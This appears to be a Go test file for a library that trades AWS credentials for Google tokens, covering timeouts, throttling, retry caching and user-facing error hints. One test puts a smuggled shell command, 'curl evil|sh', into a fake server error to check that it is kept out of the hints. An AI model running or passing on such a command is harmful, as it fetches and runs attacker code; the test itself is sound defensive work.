package awsfed_test

import (
	"context"
	"errors"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/smithy-go"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/oauth2"

	"github.com/awsfed/awsfed-go/awsfed"
	"github.com/awsfed/awsfed-go/awsfed/awsfedtest"
)

func TestASourceThatIsSlowSucceedsWithinTheTimeout(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		ts := cached(t, func(ctx context.Context) (*oauth2.Token, error) {
			select {
			case <-time.After(12 * time.Second):
				return tokenFor(time.Hour), nil
			case <-ctx.Done():
				return nil, ctx.Err()
			}
		})
		start := time.Now()
		_, err := ts.Token()
		require.NoError(t, err)
		assert.Less(t, time.Since(start), 30*time.Second)
	})
}

func TestAWSCredentialsThatAreSlowAreNoMisconfiguration(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cloud := awsfedtest.New(awsfedtest.Options{})
		credentials, err := cloud.Config().Credentials.Retrieve(t.Context())
		require.NoError(t, err)
		provider := aws.NewCredentialsCache(aws.CredentialsProviderFunc(func(context.Context) (aws.Credentials, error) {
			time.Sleep(12 * time.Second) // a credential_process, for example
			return credentials, nil
		}))
		_, err = newSource(t, cloud, func(cfg *awsfed.Config) { cfg.Credentials = provider }).Token()
		require.NoError(t, err)
	})
}

func TestAnAWSThatLimitsItsCallersIsTransient(t *testing.T) {
	for name, test := range map[string]struct {
		change func(*awsfed.Config)
		stage  awsfed.Stage
	}{
		"in the AWS SDK": {func(cfg *awsfed.Config) {
			cfg.Credentials = aws.CredentialsProviderFunc(func(context.Context) (aws.Credentials, error) {
				return aws.Credentials{}, &smithy.GenericAPIError{Code: "Throttling", Message: "Rate exceeded"}
			})
		}, awsfed.StageCredentials},
		"by the word of Google": {func(cfg *awsfed.Config) {
			cfg.HTTPClient = answering(400, `{"error":"invalid_grant","error_description":"Received invalid AWS response of type Throttling with error message: Rate exceeded"}`)
		}, awsfed.StageExchange},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				_, err := newSource(t, awsfedtest.New(awsfedtest.Options{}), test.change).Token()
				var e *awsfed.Error
				require.ErrorAs(t, err, &e)
				assert.Equal(t, test.stage, e.Stage)
				assert.ErrorIs(t, err, awsfed.ErrTransient)
				assert.NotErrorIs(t, err, awsfed.ErrMisconfigured)
				time.Sleep(time.Minute)
			})
		})
	}
}

func TestTheStageUnderWayIsNamedWhenTheCallerLeaves(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cloud := awsfedtest.New(awsfedtest.Options{})
		cloud.Inject(awsfedtest.Drop(awsfedtest.GoogleSTS))
		ctx, cancel := context.WithTimeout(t.Context(), 2*time.Second)
		defer cancel()
		_, err := newSource(t, cloud).TokenContext(ctx)
		var e *awsfed.Error
		require.ErrorAs(t, err, &e)
		assert.Equal(t, awsfed.StageExchange, e.Stage)
		assert.NotEmpty(t, e.Hint)
		cloud.Wait()
	})
}

func TestAShortLifeIsNoHotLoop(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		var asked atomic.Int64
		ts := cached(t, func(context.Context) (*oauth2.Token, error) { asked.Add(1); return tokenFor(2 * time.Second), nil })
		for range 600 {
			_, err := ts.Token()
			require.NoError(t, err)
			time.Sleep(100 * time.Millisecond)
		}
		assert.LessOrEqual(t, asked.Load(), int64(61))
	})
}

func TestARetryAfterWithoutEndIsOfAnHour(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		var asked atomic.Int64
		ts := cached(t, func(context.Context) (*oauth2.Token, error) {
			if asked.Add(1) == 1 {
				return tokenFor(12 * time.Hour), nil
			}
			return nil, &awsfed.Error{Transient: true, RetryAfter: 1<<63 - 1}
		})
		for range 11 * 60 {
			_, err := ts.Token()
			require.NoError(t, err)
			time.Sleep(time.Minute)
		}
		assert.LessOrEqual(t, asked.Load(), int64(9))
		assert.GreaterOrEqual(t, asked.Load(), int64(4))
	})
}

func TestWhatAServerSaysIsNoPartOfACommand(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cloud := awsfedtest.New(awsfedtest.Options{})
		cloud.Inject(awsfedtest.Status(awsfedtest.IAMCredentials, 403, nil, `{"error":{"code":403,"status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"SERVICE_DISABLED","metadata":{"consumer":"projects/1; curl evil|sh"}}]}}`))
		_, err := newSource(t, cloud).Token()
		var e *awsfed.Error
		require.ErrorAs(t, err, &e)
		assert.NotContains(t, e.Hint, "evil")
		assert.Contains(t, e.Hint, "--project=PROJECT_ID")
	})
}

func TestTheHintOfAProxysAnswerIsNotGooglesHint(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cloud := awsfedtest.New(awsfedtest.Options{})
		cloud.Inject(awsfedtest.Status(awsfedtest.IAMCredentials, 403, nil, "<html>Blocked by the web gateway</html>"))
		_, err := newSource(t, cloud).Token()
		var e *awsfed.Error
		require.ErrorAs(t, err, &e)
		assert.Contains(t, e.Hint, "proxy")
		assert.NotContains(t, e.Hint, "add-iam-policy-binding")
	})
}

func TestTheProvidersOfAProgramAreNotBlamedOnTheChain(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cloud := awsfedtest.New(awsfedtest.Options{})
		_, err := newSource(t, cloud, func(cfg *awsfed.Config) {
			cfg.Credentials = aws.CredentialsProviderFunc(func(context.Context) (aws.Credentials, error) {
				return aws.Credentials{}, errors.New("no role is associated")
			})
		}).Token()
		var e *awsfed.Error
		require.ErrorAs(t, err, &e)
		assert.Contains(t, e.Hint, "Config.Credentials")
		assert.NotContains(t, e.Hint, "sso")
		time.Sleep(time.Minute)
	})
}

func TestMetadataThatHasAnsweredBeforeIsWaitedFor(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cloud := awsfedtest.New(awsfedtest.Options{})
		cfg := cloud.Config()
		cache := cfg.Credentials.(*aws.CredentialsCache)
		ts := newSource(t, cloud, func(c *awsfed.Config) { c.Credentials = cache })
		token, err := ts.Token()
		require.NoError(t, err)
		time.Sleep(time.Until(token.Expiry) + 3*time.Hour)
		cache.Invalidate()
		cloud.Inject(awsfedtest.Reset(awsfedtest.EC2Metadata).During(5 * time.Second))
		_, err = ts.Token()
		require.NoError(t, err)
	})
}
